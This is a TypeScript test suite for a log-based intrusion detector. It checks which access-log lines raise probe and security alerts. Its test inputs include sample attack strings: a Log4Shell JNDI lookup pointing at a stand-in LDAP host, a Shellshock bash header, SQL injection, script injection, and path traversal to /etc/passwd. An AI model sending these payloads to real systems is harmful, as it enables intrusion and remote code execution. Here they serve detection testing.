import { readFileSync } from 'node:fs'
import { describe, expect, test } from 'vitest'
import { filledLines } from '../../../processors/generate/fill.ts'
import { mostRemembered } from '../../../processors/pass/rules.ts'
import { generatorPlanSchema } from '../../../src/core/generator.ts'
import { alertsOf, type Given, logOf, repeat } from './given-lines.ts'
import { lineEnds, runPass } from './support.ts'

const fixture = (name: string): Buffer => readFileSync(new URL(`../../fixtures/rules/${name}`, import.meta.url))
const linesThatAlert = (bytes: Buffer, cuts: readonly number[] = []): readonly number[] => {
  const starts = [0, ...lineEnds(bytes)]
  return runPass(bytes, ['alerts'], cuts).alerts.map(({ off }) => starts.indexOf(off) + 1)
}

describe('logs of others', () => {
  test('raise an alert for each of 23 attacks and for nothing else', () => {
    const log = fixture('scanners.log')
    const attacks = Array.from({ length: 23 }, (_, index) => index + 1)
    expect(linesThatAlert(log)).toEqual(attacks)
    for (const cut of lineEnds(log)) expect(linesThatAlert(log, [cut])).toEqual(attacks)
  })

  test.each(['wordpress-shop.log', 'health-checks-and-handshakes.log'])('raise none for %s', (name) => {
    const log = fixture(name)
    expect(lineEnds(log).length).toBeGreaterThan(100)
    expect(linesThatAlert(log)).toEqual([])
    expect(linesThatAlert(log, lineEnds(log))).toEqual([])
  })
})

const probe: Given = { request: 'GET /.env HTTP/1.1', status: 404 }
const told = (lines: readonly Given[], cuts: readonly number[] = []) =>
  alertsOf(lines, cuts).map(({ line: at, reason }) => [at, reason])

describe('a probe', () => {
  test('is one alert a client, rule and window, with its count', () => {
    const paths = ['/.env', '/wp-login.php', '/.git/config', '/phpmyadmin/']
    const scan = Array.from({ length: 40 }, (_, index) => ({ ...probe, request: `GET ${paths[index % 4]} HTTP/1.1` }))
    const others = [
      { ...probe, host: '203.0.113.9' },
      { ...probe, at: '05:05:00' },
      { request: 'GET /?f=../../etc/passwd HTTP/1.1', status: 200 },
    ]
    const reason = (what: string): string => `probe: ${what} within 300 s`
    expect(told([...scan, ...others])).toEqual([
      [0, reason('scanner path, 40 requests')],
      [40, reason('scanner path, 1 request')],
      [41, reason('scanner path, 1 request')],
      [42, reason('path traversal, 1 request')],
    ])
  })

  test('is raised once wherever the log is cut; its count is what had come by then', () => {
    const lines = repeat(6, probe)
    for (let cut = 1; cut < 6; cut++)
      expect(told(lines, [cut])).toEqual([
        [0, `probe: scanner path, ${cut} ${cut === 1 ? 'request' : 'requests'} within 300 s`],
      ])
  })

  test('is told by the line that raised it, masked', () => {
    const [alert] = alertsOf([{}, { ...probe, request: 'GET /.env?ip=198.51.100.9 HTTP/1.1' }, probe])
    expect(alert).toMatchObject({ line: 1, ip: '198.51.100.0', message: 'GET /.env?ip=198.51.100.0 404 Not Found' })
  })

  test('is remembered of a bounded number of clients', () => {
    const many = Array.from({ length: 10_500 }, (_, index) => ({
      ...probe,
      host: `10.${index >> 16}.${(index >> 8) & 255}.${index & 255}`,
    }))
    const { rules, alerts } = runPass(logOf(many), ['alerts'])
    expect(alerts).toHaveLength(10_500)
    expect(rules.raised).toHaveLength(mostRemembered.raised)
    expect(JSON.stringify(rules)).not.toMatch(/10\.\d+\./)
  })

  test.each<Given>([
    { agent: `\${jndi:ldap://203.0.113.9/a}` },
    { agent: '() { :;}; /bin/bash -c id' },
    { agent: "x' or 1=1#" },
    { referer: 'https://x.example/?id=1%20union%20select%202' },
    { referer: 'https://shop.example.com/?q=<script>alert(1)</script>' },
    { referer: 'https://shop.example.com/?q=%3Cscript%3E' },
    { referer: `https://shop.example.com/?q=%24%7Bjndi:ldap://203.0.113.9/a%7D` },
    { referer: "https://shop.example.com/' union select 1,2--" },
    { request: 'GET /wp-login.php', status: 404 },
    { request: "GET /search.php?q=' OR '1'='1 HTTP/1.1" },
    { request: 'GET /search.php?q=\\" OR \\"1\\"=\\"1 HTTP/1.1' },
    { request: 'GET /search.php?q=\\x22 OR \\x221\\x22=\\x221 HTTP/1.1' },
  ])('is found in %j', (given) => {
    expect(alertsOf([given]).map(({ kind }) => kind)).toEqual(['security alert'])
    // with the same text again, and behind an ordinary line
    expect(alertsOf([{}, given, given, {}]).map(({ line: at }) => at)).toEqual([1])
  })

  test.each<Given>([
    { agent: "Mozilla/5.0 (X11; Linux x86_64; it's me) AppleWebKit/537.36 (KHTML, like Gecko) {b}" },
    { referer: 'https://shop.example.com/search?q=k%C3%A4se%20%26%20brot' },
    { referer: 'https://shop.example.com/login?next=http%3A%2F%2Fshop.example.com%2Fcart' },
    { referer: 'file:///home/me/index.html' },
    { request: '-', status: 408 },
    { request: '\\x16\\x03\\x01', status: 400 },
    { request: 'GET /search.php?q=red shoes HTTP/1.1' },
  ])('is not %j', (given) => {
    expect(alertsOf([given])).toEqual([])
  })
})

/** A blank behind a line sends it to the exact rules. */
const slowly = (bytes: Buffer): Buffer => Buffer.from(bytes.toString().replaceAll('\n', ' \n'))

test('simple lines and surprising ones are judged alike', () => {
  const targets = [
    ...['/?f=/etc/passwd', '/?f=php://input', '/?a=1+or+1=1', '/?a=%3Cscript', '/?a=|sh', '/?a=..;/', '/wp-login.php'],
    ...['/.well-known/x', '/a/../b', '/login?next=/cart', '/%2e%2e/', '/actuator/health', '/?q=wait...'],
  ]
  const lines = targets.flatMap((target, index) =>
    [200, 404, 401, 503].flatMap((status) =>
      repeat(status === 401 ? 6 : 1, { status, host: `198.51.100.${index}`, request: `GET ${target} HTTP/1.1` }),
    ),
  )
  for (const log of [logOf(lines), fixture('scanners.log'), fixture('health-checks-and-handshakes.log')])
    expect(linesThatAlert(slowly(log)).toSorted()).toEqual(linesThatAlert(log).toSorted())
  expect(linesThatAlert(logOf(lines)).length).toBeGreaterThan(20)
})

describe('the logs of the demo', () => {
  const plan = generatorPlanSchema.parse({
    nodes: Array.from({ length: 21 }, (_, index) => ({ id: `node-${index}`, file: '/dev/null' })),
    seed: 1,
    lines: 10_000,
    until: Date.UTC(2026, 10, 24, 12, 34, 56),
  })
  const nodes = plan.nodes.map(({ id }, index) => {
    const log = Buffer.from([...filledLines(plan, index, id)].join(''), 'latin1')
    return runPass(log, ['alerts']).alerts.map((alert) => ({
      ...alert,
      text: log.toString('latin1', alert.off, log.indexOf(10, alert.off)),
    }))
  })

  test.each([
    /^status 5\d\d$/,
    /^\d+ failed logins of one client/,
    /^probe: scanner path/,
    /^probe: path traversal/,
    /^probe: SQL injection/,
    /^probe: script injection/,
    /^\d+ of \d+ requests within 300 s ended in 5xx$/,
  ])('show %s on at least three nodes', (reason) => {
    expect(nodes.filter((alerts) => alerts.some((alert) => reason.test(alert.reason))).length).toBeGreaterThanOrEqual(3)
  })

  test('raise security alerts for attackers only', () => {
    const alerts = nodes.flat().filter(({ kind }) => kind === 'security alert')
    expect(alerts.length).toBeGreaterThan(20)
    expect(
      alerts.filter(({ text }) => !/"(?:python-requests|curl|Go-http-client|Mozilla\/5\.0 zgrab)/.test(text)),
    ).toEqual([])
  })
})
